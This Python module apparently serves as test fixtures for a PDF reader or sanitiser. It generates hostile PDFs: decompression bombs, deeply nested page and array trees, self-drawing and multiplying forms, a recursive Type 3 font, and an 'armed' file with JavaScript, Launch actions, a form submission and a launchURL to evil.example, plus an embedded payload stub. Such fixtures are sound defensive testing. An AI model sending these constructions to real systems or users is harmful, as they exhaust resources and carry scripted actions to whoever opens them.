# SPDX-License-Identifier: AGPL-3.0-or-later
"""Documents that somebody might send to break the reader, or whoever opens what it gives out."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject


def pdf_of(
    content: bytes,
    dictionary: bytes = b"",
    media_box: str = "0 0 595 842",
    pages: int = 1,
    resources: bytes = b"<<>>",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """A PDF written by hand: one content stream on every page; ``more`` are objects after the pages."""
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 3 0 R/Resources%s>>" % (media_box.encode(), resources)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(content), content),
        *[page] * pages,
        *more,
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, value in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end


def flate_bomb() -> bytes:
    """168 MB of strokes in some kilobytes, packed twice."""
    inner = zlib.compress(b"0 0 m 9 9 l S\n" * 12_000_000, 9)
    return pdf_of(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]")


def locked(user_password: str, owner_password: str | None = None, pdf: bytes | None = None) -> bytes:
    """Encrypted (AES-256); an empty user password opens by itself."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf or pdf_of(b""))))
    writer.encrypt(user_password, owner_password, algorithm="AES-256")
    return written(writer)


def nested_pages(depth: int = 20_000) -> bytes:
    """A tree of pages that goes down and down."""
    more = tuple(b"<</Type/Pages/Count 1/Parent %d 0 R/Kids[%d 0 R]>>" % (number - 1, number + 1) for number in range(5, 5 + depth))
    pdf = pdf_of(b"", more=more)
    return pdf.replace(b"/Kids[4 0 R]", b"/Kids[5 0 R]")


def nested_arrays(depth: int = 200_000) -> bytes:
    """An object of arrays in arrays."""
    return pdf_of(b"", more=(b"[" * depth + b"]" * depth,)).replace(b"/Type/Catalog", b"/X 5 0 R/Type/Catalog")


def drawn_in_itself() -> bytes:
    """A form that draws itself."""
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream"
    return pdf_of(b"/F Do\n" * 9, resources=b"<</XObject<</F 5 0 R>>>>", more=(form,))


def forms_in_forms(levels: int = 12, times: int = 10) -> bytes:
    """A form that draws another ten times, which draws another ten times …"""
    forms = []
    for level in range(levels):
        inner = b"/F Do\n" * times if level < levels - 1 else b"0 0 m 9 9 l S\n"
        resources = b"<</XObject<</F %d 0 R>>>>" % (6 + level) if level < levels - 1 else b"<<>>"
        forms.append(
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources%s/Length %d>>stream\n%s\nendstream" % (resources, len(inner), inner)
        )
    return pdf_of(b"/F Do\n", resources=b"<</XObject<</F 5 0 R>>>>", more=tuple(forms))


def font_bomb() -> bytes:
    """A glyph (Type 3) that shows itself, ten times over."""
    glyph = b"1000 0 d0 BT /F 1 Tf (aaaaaaaaaa) Tj ET"
    more = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97"
        b"/LastChar 97/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(glyph), glyph),
    )
    return pdf_of(b"BT /F 9 Tf 9 9 Td (" + b"a" * 4000 + b") Tj ET", resources=b"<</Font<</F 5 0 R>>>>", more=more)


def giant_image() -> bytes:
    """A picture of 60,000 by 60,000 points of grey, packed: 3.6 GB to whoever unpacks it."""
    packed = zlib.compress(bytes(60_000 * 1_000), 9)
    image = (
        b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/Length %d>>stream\n%s"
        b"\nendstream" % (len(packed), packed)
    )
    return pdf_of(b"595 0 0 842 0 0 cm /I Do", resources=b"<</XObject<</I 5 0 R>>>>", more=(image,))


def armed(pdf: bytes) -> bytes:
    """A real report with scripts, a started program, a form that is sent, a file and rich media in it, everywhere a PDF can have them."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.add_attachment("payload.exe", b"MZ ARMED")
    root = writer.root_object
    names = root["/Names"]
    assert isinstance(names, DictionaryObject)
    script = ArrayObject([TextStringObject("start"), writer._add_object(_action("/JavaScript", "/JS", "app.alert('ARMED')"))])
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): script})
    root[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", "app.launchURL('https://evil.example/ARMED')")
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/JavaScript", "/JS", "this.ARMED()")})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/Launch", "/F", "ARMED.exe")})
    annotations = ArrayObject()
    for subtype, action in (
        ("/Link", _action("/JavaScript", "/JS", "ARMED")),
        ("/Link", _action("/Launch", "/F", "ARMED.exe")),
        ("/Widget", _action("/SubmitForm", "/F", "https://evil.example/ARMED")),
        ("/FileAttachment", None),
        ("/RichMedia", None),
    ):
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject(map(FloatObject, (0, 0, 100, 100))),
        })  # fmt: skip
        if action is not None:
            annotation[NameObject("/A")] = action
        annotations.append(writer._add_object(annotation))
    web = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://hospital.example/")})
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): web,
        NameObject("/Rect"): ArrayObject(map(FloatObject, (0, 0, 10, 10))),
    })  # fmt: skip
    annotations.append(writer._add_object(link))
    page[NameObject("/Annots")] = annotations
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})
